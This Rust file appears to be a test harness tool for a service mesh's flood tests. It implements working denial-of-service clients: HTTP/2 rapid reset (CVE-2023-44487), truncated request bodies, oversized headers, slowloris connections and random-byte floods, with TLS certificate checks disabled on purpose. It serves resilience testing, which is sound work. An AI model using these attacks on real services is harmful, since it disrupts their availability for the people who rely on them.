//! `mesh-flood`: the hostile clients of the flood tests (`tests/tests/floods.rs`).
//! Each subcommand attacks one address the way a misbehaving or malicious client
//! would, stops by itself (`--within` bounds every run), and prints one JSON line
//! saying what the other side did, so the test asserts on the server's behaviour and
//! not on the tool's.
//!
//! Run inside a workload's cgroup, its connections are intercepted like any other
//! workload's; run from a host outside the mesh, it reaches the agent's and the
//! control plane's ports directly. `--tls` wraps the connection in TLS without
//! checking the server's certificate: an attacker has no reason to.

use std::{
    net::SocketAddr,
    sync::Arc,
    time::{Duration, Instant},
};

use anyhow::{Context, Result, bail};
use bytes::Bytes;
use clap::{Parser, Subcommand, ValueEnum};
use mesh_tests::attacker::{AnyServer, pseudo_random};
use serde_json::{Value, json};
use tokio::{
    io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt},
    net::TcpStream,
    time::timeout,
};

#[derive(Parser)]
#[command(about = "Hostile clients for the mesh's flood tests")]
struct Cli {
    /// Where to attack.
    #[arg(long, global = true, default_value = "127.0.0.1:80")]
    connect: SocketAddr,
    /// Speak TLS (no certificate check) before the attack's own protocol.
    #[arg(long, global = true)]
    tls: bool,
    /// The `:authority` / `Host` the requests carry.
    #[arg(long, global = true, default_value = "flood.test")]
    authority: String,
    /// Upper bound on the whole run.
    #[arg(long, global = true, default_value = "60s", value_parser = humantime::parse_duration)]
    within: Duration,
    #[command(subcommand)]
    cmd: Cmd,
}

#[derive(Subcommand)]
enum Cmd {
    /// HTTP/2 rapid reset (CVE-2023-44487): open a stream and cancel it at once,
    /// `--streams` times on each of `--connections` connections.
    RapidReset {
        #[arg(long, default_value_t = 4)]
        connections: usize,
        #[arg(long, default_value_t = 5000)]
        streams: usize,
    },
    /// HTTP/2 POSTs announcing `--body` bytes that send half of them: every other
    /// stream is reset after its half, the rest are cut when the connection drops
    /// after `--hold`.
    TruncatedBodies {
        #[arg(long, default_value_t = 20)]
        connections: usize,
        #[arg(long, default_value_t = 200)]
        streams: usize,
        #[arg(long, default_value_t = 65536)]
        body: usize,
        #[arg(long, default_value = "1s", value_parser = humantime::parse_duration)]
        hold: Duration,
    },
    /// One request whose head carries `--bytes` of headers (HTTP/1.1, or HTTP/2 with
    /// `--h2`).
    BigHeaders {
        #[arg(long, default_value_t = 1 << 20)]
        bytes: usize,
        #[arg(long)]
        h2: bool,
    },
    /// `--connections` connections that hold on without completing anything, for
    /// `--hold` at most; reports when the server closed each.
    Slowloris {
        #[arg(long, default_value_t = 500)]
        connections: usize,
        #[arg(long, value_enum, default_value_t = Drip::Silent)]
        drip: Drip,
        #[arg(long, default_value = "10s", value_parser = humantime::parse_duration)]
        hold: Duration,
    },
    /// `--connections` connections, each sending `--bytes` pseudo-random bytes and
    /// reading what comes back until the server closes (or 3 s of silence).
    Garbage {
        #[arg(long, default_value_t = 50)]
        connections: usize,
        #[arg(long, default_value_t = 4096)]
        bytes: usize,
        #[arg(long, default_value_t = 1)]
        seed: u64,
    },
}

/// What a slowloris connection sends while it holds on.
#[derive(Clone, Copy, ValueEnum)]
enum Drip {
    /// Nothing at all (the sniffer waits for a first byte).
    Silent,
    /// One byte that could start an HTTP request, then nothing.
    OneByte,
    /// A request line, then one header byte every 300 ms: a head that never ends.
    Head,
}

trait Io: AsyncRead + AsyncWrite + Unpin + Send {}
impl<T: AsyncRead + AsyncWrite + Unpin + Send> Io for T {}

#[tokio::main(flavor = "current_thread")]
async fn main() -> Result<()> {
    let cli = Arc::new(Cli::parse());
    let within = cli.within;
    let report = match timeout(within, run(cli.clone())).await {
        Ok(r) => r?,
        Err(_) => bail!("the attack did not end within --within {within:?}"),
    };
    println!("{report}");
    Ok(())
}

async fn run(cli: Arc<Cli>) -> Result<Value> {
    let started = Instant::now();
    let mut report = match cli.cmd {
        Cmd::RapidReset { connections, streams } => {
            let runs = (0..connections).map(|_| tokio::spawn(rapid_reset(cli.clone(), streams)));
            sum_reports(futures_join(runs).await?)
        }
        Cmd::TruncatedBodies { connections, streams, body, hold } => {
            let runs =
                (0..connections).map(|_| tokio::spawn(truncated_bodies(cli.clone(), streams, body, hold)));
            sum_reports(futures_join(runs).await?)
        }
        Cmd::BigHeaders { bytes, h2 } => {
            if h2 {
                big_headers_h2(&cli, bytes).await?
            } else {
                big_headers_h1(&cli, bytes).await?
            }
        }
        Cmd::Slowloris { connections, drip, hold } => slowloris(cli.clone(), connections, drip, hold).await?,
        Cmd::Garbage { connections, bytes, seed } => {
            let runs = (0..connections as u64).map(|i| tokio::spawn(garbage(cli.clone(), bytes, seed + i)));
            sum_reports(futures_join(runs).await?)
        }
    };
    report["seconds"] = json!(started.elapsed().as_secs_f64());
    Ok(report)
}

async fn futures_join<T>(
    handles: impl Iterator<Item = tokio::task::JoinHandle<Result<T>>>,
) -> Result<Vec<T>> {
    let mut out = Vec::new();
    for h in handles.collect::<Vec<_>>() {
        out.push(h.await.context("attack task panicked")??);
    }
    Ok(out)
}

/// Adds up numeric fields and collects the distinct strings of `errors`.
fn sum_reports(reports: Vec<Value>) -> Value {
    let mut total = serde_json::Map::new();
    let mut errors: Vec<String> = Vec::new();
    for r in reports {
        for (k, v) in r.as_object().into_iter().flatten() {
            if k == "errors" {
                for e in v.as_array().into_iter().flatten().filter_map(Value::as_str) {
                    if !errors.iter().any(|x| x == e) {
                        errors.push(e.to_owned());
                    }
                }
            } else if let Some(n) = v.as_u64() {
                let sum = total.get(k).and_then(Value::as_u64).unwrap_or(0) + n;
                total.insert(k.clone(), json!(sum));
            }
        }
    }
    total.insert("errors".into(), json!(errors));
    Value::Object(total)
}

/// A TCP connection to the target, in TLS when asked (ALPN `h2` when `h2`).
async fn open(cli: &Cli, h2: bool) -> Result<Box<dyn Io>> {
    let tcp = timeout(Duration::from_secs(5), TcpStream::connect(cli.connect))
        .await
        .context("connect timed out")?
        .with_context(|| format!("connecting to {}", cli.connect))?;
    tcp.set_nodelay(true)?;
    if !cli.tls {
        return Ok(Box::new(tcp));
    }
    let verifier = AnyServer::new();
    let mut config = rustls::ClientConfig::builder_with_provider(verifier.provider())
        .with_safe_default_protocol_versions()?
        .dangerous()
        .with_custom_certificate_verifier(verifier)
        .with_no_client_auth();
    if h2 {
        config.alpn_protocols = vec![b"h2".to_vec()];
    }
    let name = rustls::pki_types::ServerName::try_from(cli.authority.clone())
        .unwrap_or_else(|_| rustls::pki_types::ServerName::IpAddress(cli.connect.ip().into()));
    let tls = tokio_rustls::TlsConnector::from(Arc::new(config)).connect(name, tcp).await?;
    Ok(Box::new(tls))
}

/// An HTTP/2 client connection whose driver runs in its own task.
async fn h2_connect(
    cli: &Cli,
) -> Result<(h2::client::SendRequest<Bytes>, tokio::task::JoinHandle<Result<(), h2::Error>>)> {
    let io = open(cli, true).await?;
    let (client, conn) = h2::client::Builder::new()
        .max_concurrent_reset_streams(0)
        .handshake::<_, Bytes>(io)
        .await
        .context("HTTP/2 handshake")?;
    Ok((client, tokio::spawn(conn)))
}

fn uri(cli: &Cli) -> String {
    format!("http://{}/flood", cli.authority)
}

/// How a connection driver ended, in words (`GOAWAY ENHANCE_YOUR_CALM`, ...).
fn ended(result: Result<Result<(), h2::Error>, tokio::task::JoinError>) -> Option<String> {
    match result {
        Ok(Ok(())) => None,
        Ok(Err(e)) if e.is_go_away() => Some(format!("GOAWAY {:?}", e.reason())),
        Ok(Err(e)) => Some(e.to_string()),
        Err(e) => Some(e.to_string()),
    }
}

async fn rapid_reset(cli: Arc<Cli>, streams: usize) -> Result<Value> {
    let (client, driver) = match h2_connect(&cli).await {
        Ok(c) => c,
        Err(e) => return Ok(json!({"connections_refused": 1, "errors": [format!("{e:#}")]})),
    };
    // The client handle is consumed (and dropped) here, so the driver can end.
    let (reset, mut errors) = open_and_cancel(client, &cli, streams).await;
    if let Ok(end) = timeout(Duration::from_secs(5), driver).await
        && let Some(e) = ended(end)
    {
        errors.push(e);
    }
    Ok(json!({"streams_reset": reset, "errors": errors}))
}

async fn open_and_cancel(
    mut client: h2::client::SendRequest<Bytes>,
    cli: &Cli,
    streams: usize,
) -> (u64, Vec<String>) {
    let mut reset = 0u64;
    for _ in 0..streams {
        client = match client.ready().await {
            Ok(c) => c,
            Err(e) => return (reset, vec![e.to_string()]),
        };
        let req = http::Request::get(uri(cli)).body(()).expect("valid request");
        match client.send_request(req, true) {
            // Dropping both halves of an open stream sends RST_STREAM(CANCEL).
            Ok((response, send)) => {
                drop((response, send));
                reset += 1;
            }
            Err(e) => return (reset, vec![e.to_string()]),
        }
    }
    (reset, Vec::new())
}

async fn truncated_bodies(cli: Arc<Cli>, streams: usize, body: usize, hold: Duration) -> Result<Value> {
    let (client, driver) = match h2_connect(&cli).await {
        Ok(c) => c,
        Err(e) => return Ok(json!({"connections_refused": 1, "errors": [format!("{e:#}")]})),
    };
    let mut client = Some(client);
    let half = Bytes::from(vec![b'x'; body / 2]);
    let mut held = Vec::new();
    let (mut reset, mut cut) = (0u64, 0u64);
    let mut errors = Vec::new();
    for i in 0..streams {
        let Some(ready) = client.take() else { break };
        let mut ready = match timeout(Duration::from_secs(5), ready.ready()).await {
            Ok(Ok(c)) => c,
            Ok(Err(e)) => {
                errors.push(e.to_string());
                break;
            }
            Err(_) => {
                errors.push("no stream slot within 5 s".into());
                break;
            }
        };
        let req = http::Request::post(uri(&cli))
            .header("content-length", body)
            .header("content-type", "application/octet-stream")
            .body(())
            .expect("valid request");
        let sent = ready.send_request(req, false);
        client = Some(ready);
        let (response, mut send) = match sent {
            Ok(s) => s,
            Err(e) => {
                errors.push(e.to_string());
                break;
            }
        };
        if let Err(e) = send.send_data(half.clone(), false) {
            errors.push(e.to_string());
            continue;
        }
        if i % 2 == 0 {
            send.send_reset(h2::Reason::CANCEL);
            reset += 1;
        } else {
            held.push((response, send));
            cut += 1;
        }
    }
    tokio::time::sleep(hold).await;
    // Cut the held streams with the connection.
    drop(held);
    drop(client);
    driver.abort();
    Ok(json!({"streams_reset": reset, "streams_cut": cut, "errors": errors}))
}

/// What came back for a request: a status, or how the server refused.
fn status_of(head: &[u8]) -> Option<u16> {
    let text = std::str::from_utf8(head.get(..head.len().min(64))?).ok()?;
    text.strip_prefix("HTTP/1.1 ").or_else(|| text.strip_prefix("HTTP/1.0 "))?.get(..3)?.parse().ok()
}

async fn big_headers_h1(cli: &Cli, bytes: usize) -> Result<Value> {
    let mut io = open(cli, false).await?;
    let mut head = format!("GET /flood HTTP/1.1\r\nHost: {}\r\n", cli.authority).into_bytes();
    // Many ordinary-looking headers rather than one huge one: each is well formed,
    // only their sum is hostile.
    let mut n = 0;
    while head.len() < bytes {
        head.extend_from_slice(format!("x-filler-{n}: {}\r\n", "a".repeat(1000)).as_bytes());
        n += 1;
    }
    head.extend_from_slice(b"\r\n");
    // The server may answer and close long before the head is written: a failed write
    // is part of the outcome, not an error of the tool.
    let written = match io.write_all(&head).await {
        Ok(()) => head.len(),
        Err(_) => 0,
    };
    let mut reply = Vec::new();
    let read = timeout(Duration::from_secs(10), async {
        let mut buf = [0u8; 4096];
        loop {
            match io.read(&mut buf).await {
                Ok(0) | Err(_) => break,
                Ok(n) if reply.len() < 65536 => reply.extend_from_slice(&buf[..n]),
                Ok(_) => {}
            }
        }
    })
    .await;
    Ok(json!({
        "head_bytes": head.len(),
        "head_written": written == head.len(),
        "status": status_of(&reply),
        "closed": read.is_ok(),
    }))
}

async fn big_headers_h2(cli: &Cli, bytes: usize) -> Result<Value> {
    let (mut client, driver) = h2_connect(cli).await?;
    let mut req = http::Request::get(uri(cli));
    let mut size = 0;
    let mut n = 0;
    while size < bytes {
        let name = format!("x-filler-{n}");
        size += name.len() + 1000 + 32;
        req = req.header(name, "a".repeat(1000));
        n += 1;
    }
    let req = req.body(()).expect("valid request");
    client = client.ready().await?;
    let outcome = match client.send_request(req, true) {
        Err(e) => json!({"refused": e.to_string()}),
        Ok((response, _send)) => match timeout(Duration::from_secs(10), response).await {
            Ok(Ok(r)) => json!({"status": r.status().as_u16()}),
            Ok(Err(e)) => json!({"refused": e.to_string(), "reason": e.reason().map(|r| format!("{r:?}"))}),
            Err(_) => json!({"refused": "no answer within 10 s"}),
        },
    };
    drop(client);
    driver.abort();
    Ok(json!({"header_bytes": size, "outcome": outcome}))
}

async fn slowloris(cli: Arc<Cli>, connections: usize, drip: Drip, hold: Duration) -> Result<Value> {
    let started = Instant::now();
    let mut tasks = Vec::new();
    let mut refused = 0u64;
    for _ in 0..connections {
        let mut io = match open(&cli, false).await {
            Ok(io) => io,
            Err(_) => {
                refused += 1;
                continue;
            }
        };
        let authority = cli.authority.clone();
        tasks.push(tokio::spawn(async move {
            let deadline = started + hold;
            let first: Vec<u8> = match drip {
                Drip::Silent => Vec::new(),
                Drip::OneByte => b"G".to_vec(),
                Drip::Head => format!("GET /flood HTTP/1.1\r\nHost: {authority}\r\nx-slow: ").into_bytes(),
            };
            if !first.is_empty() && io.write_all(&first).await.is_err() {
                return Some(started.elapsed());
            }
            let mut buf = [0u8; 1024];
            loop {
                let now = Instant::now();
                if now >= deadline {
                    return None;
                }
                let wait = match drip {
                    Drip::Head => Duration::from_millis(300).min(deadline - now),
                    _ => deadline - now,
                };
                match timeout(wait, io.read(&mut buf)).await {
                    // Closed or reset by the server.
                    Ok(Ok(0) | Err(_)) => return Some(started.elapsed()),
                    // An answer (an error page): keep reading until it closes.
                    Ok(Ok(_)) => {}
                    Err(_) => {
                        if matches!(drip, Drip::Head) && io.write_all(b"a").await.is_err() {
                            return Some(started.elapsed());
                        }
                    }
                }
            }
        }));
    }
    let opened = tasks.len() as u64;
    let mut closed: Vec<f64> = Vec::new();
    for t in tasks {
        if let Some(at) = t.await? {
            closed.push(at.as_secs_f64());
        }
    }
    closed.sort_by(f64::total_cmp);
    Ok(json!({
        "opened": opened,
        "refused": refused,
        "closed_by_server": closed.len(),
        "first_closed_s": closed.first(),
        "last_closed_s": closed.last(),
    }))
}

async fn garbage(cli: Arc<Cli>, bytes: usize, seed: u64) -> Result<Value> {
    let mut io = match open(&cli, false).await {
        Ok(io) => io,
        // Accepted and reset before the connect completed on this side: the server
        // closed it at once, which is an answer too.
        Err(e) if reset(&e) => {
            return Ok(json!({"connections": 1, "closed_by_server": 1, "reset_at_connect": 1}));
        }
        Err(e) => return Ok(json!({"connections_refused": 1, "errors": [format!("{e:#}")]})),
    };
    let sent = io.write_all(&pseudo_random(bytes, seed)).await.is_ok();
    let mut received = 0u64;
    let mut buf = [0u8; 4096];
    let closed = loop {
        match timeout(Duration::from_secs(3), io.read(&mut buf)).await {
            Ok(Ok(0) | Err(_)) => break true,
            Ok(Ok(n)) => received += n as u64,
            Err(_) => break false,
        }
    };
    Ok(json!({
        "connections": 1,
        "sent_whole": u64::from(sent),
        "closed_by_server": u64::from(closed),
        "held_open": u64::from(!closed),
        "bytes_received": received,
    }))
}

fn reset(e: &anyhow::Error) -> bool {
    e.chain()
        .filter_map(|c| c.downcast_ref::<std::io::Error>())
        .any(|io| io.kind() == std::io::ErrorKind::ConnectionReset)
}
